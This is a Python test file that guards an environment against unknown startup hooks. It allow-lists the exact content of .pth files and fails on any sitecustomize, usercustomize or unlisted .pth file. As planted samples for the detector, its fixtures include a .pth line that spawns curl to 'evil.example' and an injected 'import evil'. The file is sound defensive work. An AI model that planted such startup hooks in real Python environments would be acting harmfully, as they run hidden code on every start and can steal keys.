"""What runs by itself when Python starts: only what is known, to the letter.

A ``.pth`` file in an environment can run code at every start of Python, which is how packages that
were taken over have stolen keys. Each one that may be here is listed with all that may be in it.
"""

import re
import site
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

_REPOSITORY = Path(__file__).parents[2]
_COVERAGE = (
    'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or '
    'os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n '
    'else:\\n  coverage.process_startup(slug="pth")\')'
)
_DISTUTILS = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim();"
)
_KNOWN: Mapping[str, str] = {
    "_editable_impl_tidemark.pth": re.escape(str(_REPOSITORY / "gui")),
    "distutils-precedence.pth": re.escape(_DISTUTILS),
    "a1_coverage.pth": re.escape(_COVERAGE),
}
"""By its name, what a file may hold: a regular expression for all of it."""

_STARTED = ("sitecustomize", "usercustomize")


def unknown_in(folder: Path) -> Iterator[str]:
    """Whatever Python would run or follow from there at its start and that is not listed."""
    for path in sorted(folder.glob("*.pth")):
        known = _KNOWN.get(path.name)
        if known is None or not re.fullmatch(known, path.read_text(encoding="utf-8").strip()):
            yield path.name
    for name in _STARTED:
        yield from (path.name for path in sorted(folder.glob(f"{name}*")))


def _folders() -> set[Path]:
    folders = {*site.getsitepackages(), *(each for each in sys.path if "site-packages" in each)}
    return {Path(each) for each in folders if Path(each).is_dir()}


def test_nothing_unknown_runs_when_python_starts() -> None:
    assert _folders()
    found = {folder: list(unknown_in(folder)) for folder in _folders()}
    assert not any(found.values()), found


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("litellm_init.pth", "import os, subprocess; subprocess.Popen(['curl', 'evil.example'])"),
        ("distutils-precedence.pth", f"{_DISTUTILS}\nimport evil"),
        ("_editable_impl_tidemark.pth", "/somewhere/else"),
        ("sitecustomize.py", "import evil"),
    ],
)
def test_one_that_was_planted_is_found(tmp_path: Path, name: str, content: str) -> None:
    (tmp_path / "distutils-precedence.pth").write_text(_DISTUTILS)
    assert list(unknown_in(tmp_path)) == []
    (tmp_path / name).write_text(content)
    assert list(unknown_in(tmp_path)) == [name]
